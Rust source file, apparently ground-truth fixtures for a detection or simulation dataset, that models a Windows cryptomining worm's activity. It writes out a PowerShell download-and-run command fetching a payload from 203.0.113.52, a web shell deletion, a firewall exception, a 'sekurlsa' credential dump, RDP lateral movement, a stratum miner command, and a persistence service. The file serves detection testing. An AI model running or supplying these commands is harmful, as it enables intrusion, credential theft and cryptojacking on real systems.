//! What the sealed set's worm runs and leaves on every server: a mining botnet that brings its own house-keeping.

use crate::attack::aftermath::Left;
use crate::attack::shell::Line;
use crate::program::{CMD, POWERSHELL};
use crate::technique::Technique;
use crate::truth::Weight;

/// How it fetches itself, as the page starts it.
pub(super) const FETCH: &str = "powershell.exe $p='C:\\Windows\\zsvc.exe';(New-Object Net.Web¦Client).Down¦loadFile('http://203.0.113.52/dwn.php?b64=1&d=nh64.exe&B=_AMD64',$p);$b=[IO.File]::ReadAllBytes($p);[IO.File]::WriteAllBytes($p,$b);Start-Process $p";

/// The shells that the page starts.
pub(super) const SHELLS: [Line; 2] = [
    Line {
        technique: Technique::Download,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: FETCH,
        programs: &[("C:\\Windows\\zsvc.exe", "\"C:\\Windows\\zsvc.exe\"")],
    },
    Line {
        technique: Technique::ShellProcess,
        weight: Weight::Supporting,
        shell: CMD,
        command: "cmd.exe /c del /q /a \"DIR\\Xq81LmT4.aspx\" & ping -n 2 127.0.0.1",
        programs: &[("C:\\Windows\\System32\\PING.EXE", "ping  -n 2 127.0.0.1")],
    },
];

/// The body that the first one makes of itself.
pub(super) const BODY: (&str, &str) = ("C:\\Windows\\sqhost.exe", "C:\\Windows\\sqhost.exe Dcomsvc");

/// What the body runs: program, command, what for, weight.
pub(super) const CHILDREN: [(&str, &str, Technique, Weight); 5] = [
    (
        "C:\\Windows\\System32\\netsh.exe",
        "netsh.exe firewall add allowedprogram C:\\Windows\\sqhost.exe \"Banner Host\" ENABLE",
        Technique::FirewallRule,
        Weight::Supporting,
    ),
    (
        "C:\\Windows\\dell\\miwalk.exe",
        "C:\\Windows\\dell\\miwalk.exe sekur¦lsa",
        Technique::CredentialDump,
        Weight::Must,
    ),
    (
        "C:\\Windows\\dell\\7z.exe",
        "C:\\Windows\\dell\\7z.exe x C:\\Windows\\dell\\walker.7z -phorhor -oC:\\Windows\\dell -y",
        Technique::Download,
        Weight::Must,
    ),
    (
        "C:\\Windows\\dell\\rdpcIip.exe",
        "C:\\Windows\\dell\\rdpcIip.exe 10.20.7.0/24 KOGANE\\Administrator",
        Technique::LateralMove,
        Weight::Must,
    ),
    (
        "C:\\Windows\\dell\\SearchIndexer.exe",
        "C:\\Windows\\dell\\SearchIndexer.exe -o stra¦tum+tcp://203.0.113.52:80 -u id -p x --donate-level 1",
        Technique::Mining,
        Weight::Must,
    ),
];

/// The service by which it comes back.
pub(super) const SERVICE: (&str, &str) = ("UPlugPlay", "C:\\Windows\\sqhost.exe Dcomsvc");

/// Its script block, which the shell logs because of its words.
pub(super) const BLOCK: (Technique, &str) = (
    Technique::Download,
    "$p='C:\\Windows\\zsvc.exe';(New-Object Net.Web¦Client).Down¦loadFile('http://203.0.113.52/dwn.php?b64=1&d=nh64.exe&B=_AMD64',$p);$b=[IO.File]::ReadAllBytes($p);[IO.File]::WriteAllBytes($p,$b);Start-Process $p",
);

/// Files of its own: they complete the picture.
pub(super) const LEFT: [Left; 2] = [
    Left {
        technique: Technique::Download,
        path: "C:\\Windows\\dell\\walker.7z",
        head: b"7z\xbc\xaf\x27\x1c\0\x04\x31\x8e\x02\x91",
        size: 22_016,
    },
    Left {
        technique: Technique::Mining,
        path: "C:\\Windows\\dell\\desktop.dat",
        head: b"-o stratum+tcp://203.0.113.52:80 -u id -p x --donate-level 1\r\n",
        size: 62,
    },
];
